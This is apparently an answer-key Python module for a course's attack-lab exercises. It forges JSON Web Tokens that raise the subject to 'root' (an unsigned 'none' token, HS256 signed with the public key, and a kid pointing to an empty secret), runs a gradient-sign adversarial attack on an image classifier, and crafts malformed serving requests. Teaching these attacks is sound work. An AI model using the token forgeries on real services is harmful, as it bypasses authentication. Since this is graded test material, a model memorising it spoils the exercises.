"""Other answers to the exercises of module 07's attack lab, for its bank: written another way."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import Any

import numpy as np

from datahall.serving.attack_answers import FAULTS, NOWHERE, Faulty
from datahall.serving.evasion import Evidence


def _part(content: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(content).encode()).decode().replace("=", "")


def by_hand(token: str, public: bytes) -> dict[str, str]:
    """Forge three tokens (07.11), a part at a time."""
    raw = [each + "==" for each in token.split(".")[:2]]
    header, claims = (json.loads(base64.urlsafe_b64decode(each)) for each in raw)
    claims["sub"] = "root"
    found = {"unsigned": f"{_part({'alg': 'none', 'typ': 'JWT'})}.{_part(claims)}."}
    for name, kid, secret in (("confused", header["kid"], public), ("path", NOWHERE, b"")):
        over = f"{_part({'typ': 'JWT', 'kid': kid, 'alg': 'HS256'})}.{_part(claims)}"
        proof = hmac.new(secret, over.encode(), hashlib.sha256).digest()
        found[name] = f"{over}.{base64.urlsafe_b64encode(proof).decode().rstrip('=')}"
    return found


def step_by_step(gradient: Any, predict: Any, images: Any, labels: Any, epsilon: float) -> Evidence:
    """Attack and measure (07.12), share after share.

    Args:
        gradient: Of the loss by the pixels.
        predict: Names images (n, …), uint8.
        images: (n, …), uint8.
        labels: (n,).
        epsilon: Gray levels.
    """
    keep = np.flatnonzero(predict(images) == labels)
    pixels, names = images[keep], labels[keep]
    signs = np.sign(gradient(pixels.astype(np.float32), names))
    toss = np.where(np.random.default_rng(7).random(pixels.shape) < 0.5, -1.0, 1.0)
    shares = []
    for size, direction in ((epsilon, signs), (epsilon, toss), (255, signs)):
        moved = np.round(pixels + size * direction)
        moved = np.maximum(np.minimum(moved, 255), 0).astype("uint8")
        shares.append(float((predict(moved) == names).sum() / len(names)))
    dark = sum(not each.any() for each in signs) / len(signs)
    return Evidence(len(names), shares[0], shares[1], float(dark), shares[2])


def one_by_one(honest: dict[str, Any]) -> dict[str, Faulty]:
    """Make seven requests (07.13), each of a fresh copy."""
    found: dict[str, Faulty] = {}
    for name in FAULTS:
        asked = json.loads(json.dumps(honest))
        tensor, kind, tail = asked["inputs"][0], "application/json", b""
        if name == "content_type":
            kind = "application/x-www-form-urlencoded"
        elif name == "strict_json":
            asked["again"] = 1
        elif name == "exact_shape":
            tensor["data"] = tensor["data"][:100]
        elif name == "datatype":
            tensor["data"][3] = True
        elif name == "value_range":
            tensor["data"][-1] = -1
        elif name == "batch_limit":
            tensor["shape"][0], tensor["data"] = 100, tensor["data"] * 100
        else:
            del tensor["data"]
            tensor["parameters"] = {"binary_data_size": 784}
            kind, tail = "application/octet-stream", bytes(783)
        found[name] = (kind, asked, tail)
    return found


def one_for_all(honest: dict[str, Any]) -> dict[str, Faulty]:
    """Make one request that is wrong in every way (07.13); no right answer."""
    return dict.fromkeys(FAULTS, ("text/plain", {"inputs": "none"}, b"x"))
